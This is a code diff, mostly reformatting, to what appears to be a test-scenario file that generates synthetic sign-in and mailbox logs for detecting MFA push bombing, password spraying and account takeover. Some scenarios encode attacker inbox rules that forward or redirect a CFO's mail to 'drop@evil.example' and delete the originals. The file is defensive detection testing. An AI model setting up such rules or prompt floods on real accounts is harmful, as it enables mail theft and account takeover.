@@ -20,10 +20,14 @@ function stages1to3(d: Drawing): Drawing {
 
 const home = (phase?: number, user = 'cfo'): Drawing => new Drawing(phase).baseline(user, H);
 
-export const scenarios = {
+const drawn = {
   P01: (phase) =>
     stages1to3(home(phase))
-      .act('cfo', '09:20', 'mailbox', 'UpdateInboxRules', { ip: A.ip, sessionId: session, parameters: { Name: 'sync', RuleOperation: 'AddMailboxRule', ForwardTo: 'drop@evil.example' } })
+      .act('cfo', '09:20', 'mailbox', 'UpdateInboxRules', {
+        ip: A.ip,
+        sessionId: session,
+        parameters: { Name: 'sync', RuleOperation: 'AddMailboxRule', ForwardTo: 'drop@evil.example' },
+      })
       .downloads('cfo', '09:30', 14_400, 500, A, { sessionId: session }),
   P01prompts: (phase) => stages1to3(home(phase)),
   P01b: (phase) => stages1to3(new Drawing(phase)),
@@ -35,7 +39,11 @@ export const scenarios = {
   P05: (phase) => home(phase).prompts('cfo 09:00 +60s t t t t t t t t t t t t', A),
   P06: (phase) => {
     const d = home(phase);
-    for (let i = 0; i < 13; i++) d.prompt('cfo', d.at('09:00') + i * 20 * SECOND, i < 12 ? 'd' : 'A', { ...A, ip: `185.220.${70 + i}.9` });
+    for (let i = 0; i < 13; i++)
+      d.prompt('cfo', d.at('09:00') + i * 20 * SECOND, i < 12 ? 'd' : 'A', {
+        ...A,
+        ip: `185.220.${70 + i}.9`,
+      });
     return d;
   },
   P06c: (phase) => {
@@ -56,13 +64,24 @@ export const scenarios = {
   },
   P07: (phase) => home(phase).prompts('cfo 09:00 +1s f', A),
   P07audit: (phase) =>
-    home(phase).act('cfo', '09:00', 'directory', 'Suspicious activity reported', { mfaResult: 'fraud', target: upn('cfo') }),
+    home(phase).act('cfo', '09:00', 'directory', 'Suspicious activity reported', {
+      mfaResult: 'fraud',
+      target: upn('cfo'),
+    }),
   P08: (phase) => home(phase).prompts('cfo 09:00 +40s w w w', A),
   P09: (phase) => home(phase).codes('cfo 09:00 +1m 4 50126', A).codes('cfo 09:06 +1m 3 53003', A),
   P10: (phase) => {
     const d = new Drawing(phase);
     for (let i = 0; i < 25; i++) d.baseline(`user${i}`, { ...H, ip: `203.0.113.${30 + i}` });
-    for (let i = 0; i < 25; i++) d.add({ time: d.at('09:00') + i * 20 * SECOND, user: upn(`user${i}`), code: '50126', outcome: 'failure', interactive: true, ...A });
+    for (let i = 0; i < 25; i++)
+      d.add({
+        time: d.at('09:00') + i * 20 * SECOND,
+        user: upn(`user${i}`),
+        code: '50126',
+        outcome: 'failure',
+        interactive: true,
+        ...A,
+      });
     return d.codes('user7 09:12 +1m 1 50074', A);
   },
   P11: (phase) => {
@@ -77,10 +96,21 @@ export const scenarios = {
         target: upn('cfo'),
         ip: A.ip,
       });
-    return d.add({ time: d.at('09:08'), log: 'entra.audit', kind: 'directory', operation: 'Reset password (self-service)', target: upn('cfo'), ip: A.ip });
+    return d.add({
+      time: d.at('09:08'),
+      log: 'entra.audit',
+      kind: 'directory',
+      operation: 'Reset password (self-service)',
+      target: upn('cfo'),
+      ip: A.ip,
+    });
   },
   P16: (phase) =>
-    stages1to3(home(phase)).act('cfo', '09:10', 'mailbox', 'New-InboxRule', { ip: A.ip, sessionId: session, parameters: { Name: '.', RedirectTo: 'smtp:drop@evil.example', DeleteMessage: 'True' } }),
+    stages1to3(home(phase)).act('cfo', '09:10', 'mailbox', 'New-InboxRule', {
+      ip: A.ip,
+      sessionId: session,
+      parameters: { Name: '.', RedirectTo: 'smtp:drop@evil.example', DeleteMessage: 'True' },
+    }),
   P17: (phase) =>
     stages1to3(home(phase))
       .act('cfo', '09:09', 'directory', 'User registered security info', { ip: A.ip, target: upn('cfo') })
@@ -94,14 +124,27 @@ export const scenarios = {
       time: time - 60 * SECOND + i * 10 * SECOND,
       result: letter === 'd' ? ('denied' as const) : ('approved' as const),
     }));
-    const row = { user: upn('cfo'), code: '0', interactive: true, correlationId: guid(9), requestId: guid(8), mfaMethod: 'push' as const, mfaResult: 'approved' as const, ...A };
+    const row = {
+      user: upn('cfo'),
+      code: '0',
+      interactive: true,
+      correlationId: guid(9),
+      requestId: guid(8),
+      mfaMethod: 'push' as const,
+      mfaResult: 'approved' as const,
+      ...A,
+    };
     const password = { role: 'password' as const, succeeded: true };
-    return d.add({ time, ...row, steps: [password, ...steps] }, { time, ...row, requestId: guid(7), steps: [password, ...steps.slice(0, 3)] });
+    return d.add(
+      { time, ...row, steps: [password, ...steps] },
+      { time, ...row, requestId: guid(7), steps: [password, ...steps.slice(0, 3)] },
+    );
   },
   P23b: (phase) => home(phase).prompts('cfo 09:00 +20s d d d d d d d d +50m A', A),
   P23c: (phase) => home(phase).prompts('cfo 09:00 +20s d d d d d d d d +90m A', A),
   P24: (phase) => home(phase).prompts('cfo 09:00 +60s t t', A),
-  P25: (phase) => new Drawing(phase).baseline('cfo', H, 'ual').prompts('cfo 09:00 +30s u u u u u u A', A, 'ual'),
+  P25: (phase) =>
+    new Drawing(phase).baseline('cfo', H, 'ual').prompts('cfo 09:00 +30s u u u u u u A', A, 'ual'),
   P28: (phase) =>
     stages1to3(home(phase))
       .act('admin', '10:00', 'directory', 'Reset password (by admin)', { target: upn('cfo') })
@@ -132,8 +175,14 @@ export const scenarios = {
   B11: (phase) =>
     home(phase)
       .baseline('ceo@firm-two.example', { ...H, ip: '203.0.113.99' })
-      .act('cfo', '09:00', 'mailbox', 'New-InboxRule', { ip: H.ip, parameters: { Name: 'Newsletters', SubjectContainsWords: 'newsletter', MoveToFolder: 'Newsletters' } })
-      .act('cfo', '09:30', 'mailbox', 'New-InboxRule', { ip: H.ip, parameters: { Name: 'To the office', From: 'board', ForwardTo: 'ceo@firm-two.example' } }),
+      .act('cfo', '09:00', 'mailbox', 'New-InboxRule', {
+        ip: H.ip,
+        parameters: { Name: 'Newsletters', SubjectContainsWords: 'newsletter', MoveToFolder: 'Newsletters' },
+      })
+      .act('cfo', '09:30', 'mailbox', 'New-InboxRule', {
+        ip: H.ip,
+        parameters: { Name: 'To the office', From: 'board', ForwardTo: 'ceo@firm-two.example' },
+      }),
   B18: (phase) => {
     const d = home(phase);
     const flow = { correlationId: guid(5) };
@@ -145,15 +194,25 @@ export const scenarios = {
   },
   B19: (phase) => home(phase).codes('cfo 09:00 +1m 5 0', H, { conditionalAccess: 'reportOnlyFailure' }),
   B19b: (phase) => {
-    const byClaim = { interactive: false, steps: [{ role: 'silent' as const, detail: 'First factor requirement satisfied by claim in the token' }] };
-    return home(phase).codes('cfo 09:00 +1m 5 53003', B, byClaim).codes('cfo 09:10 +1m 5 50076', B, { ...byClaim, interactive: true });
+    const byClaim = {
+      interactive: false,
+      steps: [
+        { role: 'silent' as const, detail: 'First factor requirement satisfied by claim in the token' },
+      ],
+    };
+    return home(phase)
+      .codes('cfo 09:00 +1m 5 53003', B, byClaim)
+      .codes('cfo 09:10 +1m 5 50076', B, { ...byClaim, interactive: true });
   },
   B20: (phase) =>
     home(phase).codes('cfo 09:00 +10s 200 0', H, {
       mfaMethod: 'claim',
       steps: [{ role: 'silent', method: 'claim', detail: 'MFA requirement satisfied by claim in the token' }],
     }),
-  B22: (phase) => home(phase).baseline('cfo', H6).prompts('cfo 09:00 +30s d d d d', { ...H6, ip: '2001:db8:77:1::beef' }),
+  B22: (phase) =>
+    home(phase)
+      .baseline('cfo', H6)
+      .prompts('cfo 09:00 +30s d d d d', { ...H6, ip: '2001:db8:77:1::beef' }),
   B23: (phase) => home(phase).prompts('cfo 09:00 +20s x x x x x x x x x x', H),
   B23strange: (phase) => home(phase).prompts('cfo 09:00 +20s x x x x x x x x x x', A),
   B24: (phase) => {
@@ -161,13 +220,32 @@ export const scenarios = {
     const time = d.at('09:00');
     const flow = { correlationId: guid(4) };
     const denied = { role: 'prompt' as const, method: 'push' as const, result: 'denied' as const, time };
-    const row = { time, user: upn('cfo'), code: '500121', outcome: 'failure' as const, interactive: true, mfaResult: 'denied' as const, ...A, ...flow };
-    return d.add({ ...row, steps: [denied] }, { ...row, steps: [{ role: 'password', succeeded: true, time }, denied, { ...denied, time: time + 20 * SECOND }] });
+    const row = {
+      time,
+      user: upn('cfo'),
+      code: '500121',
+      outcome: 'failure' as const,
+      interactive: true,
+      mfaResult: 'denied' as const,
+      ...A,
+      ...flow,
+    };
+    return d.add(
+      { ...row, steps: [denied] },
+      {
+        ...row,
+        steps: [{ role: 'password', succeeded: true, time }, denied, { ...denied, time: time + 20 * SECOND }],
+      },
+    );
   },
-  B25one: (phase) => home(phase).prompts('cfo 09:00 +60s t A', { ...H, ip: '81.2.69.160', country: 'ES', asn: 3352 }),
-  B25three: (phase) => home(phase).prompts('cfo 09:00 +60s t t t A', { ...H, ip: '81.2.69.160', country: 'ES', asn: 3352 }),
-  B27: (phase) => home(phase).prompts('cfo 09:00 +20s d d d d d d d d d d d d', A).prompts('cfo 09:05 +1s A', H),
+  B25one: (phase) =>
+    home(phase).prompts('cfo 09:00 +60s t A', { ...H, ip: '81.2.69.160', country: 'ES', asn: 3352 }),
+  B25three: (phase) =>
+    home(phase).prompts('cfo 09:00 +60s t t t A', { ...H, ip: '81.2.69.160', country: 'ES', asn: 3352 }),
+  B27: (phase) =>
+    home(phase).prompts('cfo 09:00 +20s d d d d d d d d d d d d', A).prompts('cfo 09:05 +1s A', H),
   B29: (phase) => home(phase).prompts('cfo 09:00 +15s d d d d d A', H),
-} as const satisfies Record<string, Scenario>;
+} satisfies Record<string, Scenario>;
 
-export type ScenarioName = keyof typeof scenarios;
+export type ScenarioName = keyof typeof drawn;
+export const scenarios: Record<ScenarioName, Scenario> = drawn;
